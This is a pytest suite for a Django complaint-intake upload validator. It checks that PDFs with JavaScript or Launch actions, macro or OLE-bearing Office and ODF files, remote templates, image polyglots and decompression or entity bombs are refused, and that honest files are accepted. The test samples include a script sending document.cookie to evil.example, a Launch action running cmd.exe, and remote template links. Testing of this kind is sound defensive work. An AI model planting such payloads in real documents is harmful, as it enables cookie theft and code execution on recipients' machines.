"""Hostile attachments are refused, each with a message that says why; honest ones still go in.

The files an attacker would send to a complaint handler's workstation (issue 13, item 9): PDFs
that run JavaScript or start a program or carry files, a PDF that is also a Windows program,
office files with macros, OLE objects or a remote template, and images with something else
appended (polyglots). Each is built here, in memory (``sample_files``).
"""

import io
import os
import time

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image
from pypdf.generic import TextStringObject

from klachtformulieren.intake import uploads
from klachtformulieren.intake.uploads import validate_upload
from tests.klachtformulieren.intake.sample_files import (
    ODS,
    ODT,
    OFFICE_RELATIONSHIP,
    action,
    compound_file,
    content_types_xml,
    doc_bytes,
    docx_bytes,
    docx_with_relationship,
    image_bytes,
    jpeg_bytes,
    manifest_xml,
    odf_bytes,
    odf_content_xml,
    pdf_bytes,
    pdf_document,
    pdf_with_document_javascript,
    pdf_with_embedded_file,
    pdf_with_file_attachment_annotation,
    pdf_with_object_stream,
    pdf_with_open_action,
    pdf_with_page_action,
    pdf_with_wrong_cross_references,
    pe_bytes,
    png_bytes,
    png_with_chunk,
    relationships_xml,
    vba_project,
    zip_bytes,
)

MB = 1024 * 1024
HTML = b"<html><body><script>fetch('https://evil.example/?' + document.cookie)</script></body></html>"
JAVASCRIPT = action("/JavaScript", JS=TextStringObject("app.launchURL('https://evil.example/');"))
LAUNCH = action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe"))
OLE_OBJECT = compound_file({"\x01Ole10Native": b"MZ payload"})


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def refusal(name, content):
    """The (code, message) the validation refuses the file with."""
    with pytest.raises(ValidationError) as excinfo:
        validate_upload(SimpleUploadedFile(name, content), max_bytes=MB)
    (error,) = excinfo.value.error_list
    return error.code, str(error.message % error.params)


def accepted(name, content, max_bytes=MB):
    return validate_upload(SimpleUploadedFile(name, content), max_bytes=max_bytes)


def encrypted_pdf(user_password):
    writer = pdf_document()
    writer.encrypt(user_password=user_password, owner_password="beheerder", algorithm="AES-128")
    return pdf_bytes(writer)


def progressive_jpeg():
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(buffer, format="JPEG", progressive=True)
    return buffer.getvalue()


# --- Honest files still go in -----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("brief.pdf", pdf_bytes()),
        ("rapport.pdf", pdf_bytes(pdf_document(pages=40))),
        ("met-link.pdf", pdf_with_open_action(action("/URI", URI=TextStringObject("https://www.example.org/")))),
        ("afschrift.pdf", encrypted_pdf(user_password="")),  # printing restricted, no password to open
        ("compact.pdf", pdf_with_object_stream(b"<</S/URI/URI(https://www.example.org/)>>")),
        ("foto.png", png_bytes(size=(64, 48), noise=True)),
        ("foto.jpg", jpeg_bytes(size=(640, 480), noise=True)),
        ("progressief.jpg", progressive_jpeg()),
        ("opgevuld.jpg", jpeg_bytes() + b"\0" * 64),
        # A phone's Ultra HDR photo or a camera's MPF file: more pictures after the first EOI.
        ("telefoon.jpg", jpeg_bytes(size=(64, 48)) + jpeg_bytes(size=(16, 12))),
        ("brief.docx", docx_bytes()),
        ("met-link.docx", docx_with_relationship(OFFICE_RELATIONSHIP + "hyperlink", "https://www.example.org/")),
        (
            "sjabloon.docx",  # a template inside the file is no outside reference
            docx_with_relationship(
                OFFICE_RELATIONSHIP + "attachedTemplate",
                "Normal.dotm",
                external=False,
                part="word/_rels/settings.xml.rels",
            ),
        ),
        ("brief.doc", doc_bytes(ObjectPool={})),  # Word keeps an empty ObjectPool in every .doc
        ("verslag.odt", odf_bytes(ODT)),
        ("begroting.ods", odf_bytes(ODS, ("Object 1/content.xml", b"<chart/>"), ("Object 1/styles.xml", b"<s/>"))),
    ],
)
def test_honest_files_are_accepted(name, content):
    assert accepted(name, content).size == len(content)


# --- PDF --------------------------------------------------------------------------------


def test_pdf_with_document_javascript_in_the_names_tree_is_refused():
    assert refusal("brief.pdf", pdf_with_document_javascript()) == (
        "active_content",
        "“brief.pdf” contains JavaScript or a command that starts a program. Print it to a new PDF and send that.",
    )


@pytest.mark.parametrize(
    "content",
    [
        pdf_with_open_action(JAVASCRIPT),
        pdf_with_page_action(JAVASCRIPT),
        pdf_with_open_action(LAUNCH),
        pdf_with_page_action(LAUNCH),
    ],
    ids=["open-action-javascript", "additional-action-javascript", "open-action-launch", "additional-action-launch"],
)
def test_pdf_actions_that_run_javascript_or_start_a_program_are_refused(content):
    assert refusal("brief.pdf", content)[0] == "active_content"


def test_pdf_javascript_hidden_in_a_compressed_object_stream_is_refused():
    content = pdf_with_object_stream(b"<</S/JavaScript/JS(app.alert(1))>>")
    assert b"JavaScript" not in content  # only pypdf's reading of the object stream finds it

    assert refusal("brief.pdf", content)[0] == "active_content"


def test_pdf_names_spelled_with_escapes_are_still_recognised():
    content = pdf_with_object_stream(b"<</S/L#61unch/F(cmd.exe)>>")

    assert refusal("brief.pdf", content)[0] == "active_content"


def test_pdf_with_an_embedded_file_is_refused():
    assert refusal("brief.pdf", pdf_with_embedded_file()) == (
        "embedded_content",
        "“brief.pdf” contains embedded files or objects. Send those files separately, and the document without them.",
    )


def test_pdf_with_a_file_attachment_annotation_is_refused():
    assert refusal("brief.pdf", pdf_with_file_attachment_annotation())[0] == "embedded_content"


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.4\n" + pe_bytes(), pdf_bytes() + pe_bytes()],
    ids=["pdf-header-then-program", "program-after-the-pdf"],
)
def test_a_pdf_that_is_also_a_windows_program_is_refused(content):
    assert refusal("brief.pdf", content) == (
        "hidden_content",
        "“brief.pdf” hides other content, such as a program, a web page or an archive.",
    )


@pytest.mark.parametrize(
    "content",
    [pdf_bytes() + HTML, pdf_bytes().replace(b"\n", b"\n%" + HTML + b"\n", 1), pdf_bytes() + zip_bytes([("x", b"x")])],
    ids=["web-page-after-the-end", "web-page-at-the-start", "zip-after-the-end"],
)
def test_a_pdf_that_is_also_a_web_page_or_an_archive_is_refused(content):
    assert refusal("brief.pdf", content)[0] == "hidden_content"


@pytest.mark.parametrize(
    "content", [b"%PDF-1.7\n" + os.urandom(4000), b"%PDF-1.4\n%%EOF\n"], ids=["garbage", "nothing-inside"]
)
def test_a_pdf_pypdf_cannot_read_is_refused_as_damaged(content):
    assert refusal("brief.pdf", content) == ("damaged_pdf", "“brief.pdf” is damaged or is not a real PDF file.")


def test_a_pdf_that_needs_a_password_to_open_is_refused():
    assert refusal("brief.pdf", encrypted_pdf(user_password="geheim")) == (
        "encrypted_pdf",
        "“brief.pdf” is protected with a password. Send it without the password.",
    )


def test_a_pdf_stream_that_decompresses_to_too_much_is_refused_quickly():
    """A decompression bomb: 60 MB of object stream in a file of some 60 KB."""
    content = pdf_with_object_stream(b"<</S/URI/URI(https://example.org)>>", objects_padding=b" " * 60 * MB)
    assert len(content) < 100_000

    assert refusal("bom.pdf", content)[0] == "too_complex"


def test_a_pdf_with_more_objects_than_the_bound_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 50)

    assert refusal("dik.pdf", pdf_bytes(pdf_document(pages=40))) == (
        "too_complex",
        "“dik.pdf” is too complex to check. Print it to a new PDF and send that.",
    )


# --- Office documents -------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        doc_bytes(Macros=vba_project()),
        doc_bytes(Macros={}),  # even empty: Word's macro storage has no business in a letter
        doc_bytes(Projecten=vba_project()),  # a VBA project under another storage name
    ],
    ids=["word-macros-storage", "empty-macros-storage", "vba-project-elsewhere"],
)
def test_legacy_word_with_macros_is_refused(content):
    assert refusal("brief.doc", content) == (
        "macros",
        "“brief.doc” contains macros. Save it without macros, or as PDF, and send it again.",
    )


@pytest.mark.parametrize(
    "content",
    [
        compound_file({"Workbook": b"\x09\x08", "_VBA_PROJECT_CUR": vba_project()}),
        compound_file({"PowerPoint Document": b"\x00", "VBA": vba_project()["VBA"], "PROJECT": b"ID="}),
    ],
    ids=["excel-97", "powerpoint-97"],
)
def test_legacy_excel_and_powerpoint_with_macros_are_refused(content):
    assert refusal("lijst.xls", content)[0] == "type_not_allowed"


def test_a_word_file_that_is_also_a_presentation_is_refused():
    content = doc_bytes(**{"PowerPoint Document": b"\x00", "Current User": b"\x00"})

    assert refusal("brief.doc", content)[0] == "type_not_allowed"


def test_legacy_word_with_an_embedded_ole_object_is_refused():
    content = doc_bytes(ObjectPool={"_1234567890": {"\x01Ole10Native": b"MZ payload"}})

    assert refusal("brief.doc", content)[0] == "embedded_content"


@pytest.mark.parametrize(
    "content",
    [
        docx_bytes(("word/vbaProject.bin", compound_file(vba_project()))),
        docx_bytes(("word/afbeelding.bin", compound_file(vba_project()))),  # renamed: its directory tells
        docx_bytes(
            content_types=content_types_xml(
                ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
            )
        ),
    ],
    ids=["docm-renamed-docx", "renamed-vba-project", "macro-enabled-content-type"],
)
def test_docx_with_macros_is_refused(content):
    assert refusal("brief.docx", content)[0] == "macros"


@pytest.mark.parametrize(
    "content",
    [
        docx_bytes(("word/embeddings/oleObject1.bin", OLE_OBJECT)),
        docx_bytes(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", zip_bytes([("[Content_Types].xml", b"<T/>")]))),
        docx_bytes(("word/media/image1.png", OLE_OBJECT)),  # an OLE object under an innocent name
        docx_bytes(("word/activeX/activeX1.xml", b"<ax:ocx/>")),
        docx_with_relationship(OFFICE_RELATIONSHIP + "aFChunk", "afchunk.mht", external=False),
    ],
    ids=["ole-object", "embedded-package", "ole-object-renamed", "activex-control", "imported-chunk"],
)
def test_docx_with_embedded_objects_is_refused(content):
    assert refusal("brief.docx", content)[0] == "embedded_content"


@pytest.mark.parametrize(
    ("kind", "target", "part"),
    [
        ("attachedTemplate", "https://evil.example/sjabloon.dotm", "word/_rels/settings.xml.rels"),
        ("attachedTemplate", "\\\\evil.example\\share\\sjabloon.dotm", "word/_rels/settings.xml.rels"),
        ("oleObject", "file:///C:/Windows/win.ini", "word/_rels/document.xml.rels"),
        ("frame", "https://evil.example/frame.html", "word/_rels/webSettings.xml.rels"),
        ("subDocument", "https://evil.example/deel.docx", "word/_rels/document.xml.rels"),
        ("image", "https://evil.example/pixel.png", "word/_rels/document.xml.rels"),
    ],
    ids=["remote-template", "template-on-a-share", "linked-ole-object", "frame", "sub-document", "linked-picture"],
)
def test_docx_reaching_outside_the_file_is_refused(kind, target, part):
    content = docx_with_relationship(OFFICE_RELATIONSHIP + kind, target, part=part)

    assert refusal("brief.docx", content) == (
        "external_content",
        "“brief.docx” loads a template or other content from elsewhere. Save it as PDF and send it again.",
    )


def test_docx_hiding_the_external_mode_behind_a_character_reference_is_refused():
    rels = relationships_xml((OFFICE_RELATIONSHIP + "attachedTemplate", "https://evil.example/t.dotm", True))
    content = docx_bytes(("word/_rels/settings.xml.rels", rels.replace(b"External", b"&#69;xternal")))

    assert refusal("brief.docx", content)[0] == "external_content"


def test_docx_with_a_dtd_is_refused_unparsed():
    """OOXML has no DTDs; one is the way to an entity-expansion bomb."""
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&b;</Relationships>'
    )

    assert refusal("brief.docx", docx_bytes(("word/_rels/document.xml.rels", bomb)))[0] == "type_not_allowed"


@pytest.mark.parametrize(
    "content",
    [docx_bytes(("word/media/setup.bin", pe_bytes())), docx_bytes() + HTML, docx_bytes() + b"extra"],
    ids=["program-inside", "web-page-after-the-archive", "data-after-the-archive"],
)
def test_docx_carrying_a_program_or_data_after_the_archive_is_refused(content):
    assert refusal("brief.docx", content)[0] == "hidden_content"


@pytest.mark.parametrize(
    "content",
    [
        odf_bytes(ODT, ("Basic/Standard/Module1.xml", b"<script:module/>"), ("Basic/script-lc.xml", b"<l/>")),
        odf_bytes(ODT, ("Scripts/python/macro.py", b"import os")),
        odf_bytes(ODT, manifest=manifest_xml(("Scripts/python/", ""))),
        odf_bytes(ODT, manifest=manifest_xml(("Extra/module.xml", "application/vnd.sun.star.basic-script"))),
        odf_bytes(
            ODT,
            content=odf_content_xml(
                '<office:event-listeners><script:event-listener script:language="ooo:script"'
                ' script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
                '?language=Basic&amp;location=document"/></office:event-listeners>'
            ),
        ),
        odf_bytes(
            ODT,
            content=odf_content_xml(
                '<text:a xlink:href="vnd.sun.star.script:Tools.Main?language=Basic&amp;location=application">'
                "klik</text:a>"
            ),
        ),
    ],
    ids=[
        "basic-library",
        "python-script",
        "script-in-the-manifest",
        "script-media-type",
        "event-listener",
        "macro-link",
    ],
)
def test_odf_with_basic_macros_or_scripts_is_refused(content):
    assert refusal("verslag.odt", content) == (
        "macros",
        "“verslag.odt” contains macros. Save it without macros, or as PDF, and send it again.",
    )


def test_odf_with_an_embedded_ole_object_is_refused():
    assert refusal("verslag.odt", odf_bytes(ODT, ("Object 1", OLE_OBJECT)))[0] == "embedded_content"


# --- Images: one picture, nothing else --------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("foto.png", png_bytes() + HTML),
        ("foto.png", png_bytes() + zip_bytes([("payload.js", b"alert(1)")])),
        ("foto.png", png_with_chunk(b"tEXt", b"Comment\0" + HTML)),
        ("foto.png", png_with_chunk(b"ruSt", b"PK\x03\x04" + b"\0" * 26 + b"x.js")),  # a ZIP record in a chunk
        ("foto.png", png_with_chunk(b"ruSt", pe_bytes())),
        ("foto.jpg", jpeg_bytes() + zip_bytes([("payload.js", b"alert(1)")])),
        ("foto.jpg", jpeg_bytes() + HTML),
        ("foto.jpg", jpeg_bytes() + pe_bytes()),
    ],
    ids=["png-html", "png-zip", "png-html-in-text-chunk", "png-zip-record-in-chunk", "png-program",
         "jpeg-zip", "jpeg-html", "jpeg-program"],
)  # fmt: skip
def test_image_polyglots_are_refused(name, content):
    assert refusal(name, content) == (
        "hidden_content",
        f"“{name}” hides other content, such as a program, a web page or an archive.",
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("foto.png", png_bytes() + b"nog meer gegevens"),
        ("foto.jpg", jpeg_bytes() + b"nog meer gegevens"),
        ("foto.jpg", jpeg_bytes() + b"\0\0\0\x18ftypmp42" + os.urandom(2000)),  # a phone's motion photo video
    ],
    ids=["png", "jpeg", "jpeg-with-video"],
)
def test_images_with_data_after_their_end_are_refused(name, content):
    assert refusal(name, content) == (
        "image_trailing_data",
        f"“{name}” holds more than the picture alone. Save the picture again, for example as a screenshot, "
        "and send that.",
    )


def test_a_large_photo_is_checked_in_reasonable_time():
    content = image_bytes("JPEG", size=(2000, 1500), noise=True)
    started = time.monotonic()

    accepted("groot.jpg", content, max_bytes=25 * MB)

    assert time.monotonic() - started < 2


def test_a_pdf_that_would_keep_pypdf_busy_for_minutes_is_refused_at_the_deadline(monkeypatch):
    """Wrong cross-references into a long comment: pypdf's repair reads it byte by byte for
    each of them (about 40 seconds here, hours for a larger file)."""
    monkeypatch.setattr(uploads, "MAX_PDF_SECONDS", 1)
    content = pdf_with_wrong_cross_references(300, padding=MB)
    started = time.monotonic()

    with pytest.raises(ValidationError) as excinfo:
        validate_upload(SimpleUploadedFile("traag.pdf", content), max_bytes=2 * MB)

    assert [error.code for error in excinfo.value.error_list] == ["too_complex"]
    assert time.monotonic() - started < 3
